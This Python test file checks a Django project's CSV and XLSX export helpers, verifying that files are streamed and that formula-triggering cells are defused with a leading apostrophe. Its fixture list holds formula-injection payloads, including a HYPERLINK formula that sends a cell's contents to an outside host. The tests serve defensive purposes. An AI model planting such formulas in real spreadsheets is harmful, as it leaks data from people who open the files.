"""The project's own downloads (hubsite.exports.csv_response, xlsx_response): streamed,
every cell defused."""

import csv
import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from hubsite.exports import FORMULA_TRIGGERS, csv_response, spreadsheet_response, xlsx_response

HOSTILE = ['=HYPERLINK("http://x?"&A1)', "+33 5", "-1+2", "@SUM(A1)", "\t=1", "\r=1"]
ROWS = [
    ["nom", "nombre", "date"],
    [*HOSTILE[:1], 3, datetime.date(2030, 6, 4)],
    *([text, -2, None] for text in HOSTILE[1:]),
]


def test_a_csv_download_is_streamed_with_a_bom_and_every_cell_defused():
    response = csv_response(iter(ROWS), filename="essai")

    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="essai.csv"'
    data = b"".join(response.streaming_content).decode("utf-8")
    assert data.startswith("\ufeffnom,")
    rows = list(csv.reader(io.StringIO(data.removeprefix("\ufeff"), newline="")))
    assert rows[1] == ["'" + HOSTILE[0], "3", "2030-06-04"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert rows[2][1:] == ["-2", ""]  # numbers stay numbers, nothing is empty
    assert not [row[0] for row in rows if row[0].startswith(FORMULA_TRIGGERS)]


def test_an_xlsx_download_holds_no_formula_and_keeps_numbers_and_dates():
    moment = timezone.make_aware(datetime.datetime(2030, 6, 4, 14, 0))
    response = xlsx_response(
        [*ROWS, ["contrôle\x07", 2.5, moment]], filename="essai", sheet_title="Lieux"
    )

    assert response["Content-Disposition"] == 'attachment; filename="essai.xlsx"'
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook["Lieux"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert not [text for text in texts if text.startswith(FORMULA_TRIGGERS)]
    # XML reads a carriage return back as a line feed.
    assert [sheet.cell(row=n, column=1).value for n in range(2, 8)] == [
        "'" + text.replace("\r", "\n") for text in HOSTILE
    ]
    assert sheet["B2"].value == 3 and sheet["B3"].value == -2
    assert sheet["C2"].value == datetime.date(2030, 6, 4)
    assert sheet["A8"].value == "contrôle"  # a character XML forbids is dropped
    assert sheet["C8"].value == datetime.datetime(2030, 6, 4, 12, 0)  # in UTC


def test_a_spreadsheet_response_refuses_an_unknown_format():
    assert spreadsheet_response(ROWS, filename="e", export_format="csv").streaming
    with pytest.raises(ValueError):
        spreadsheet_response(ROWS, filename="e", export_format="ods")
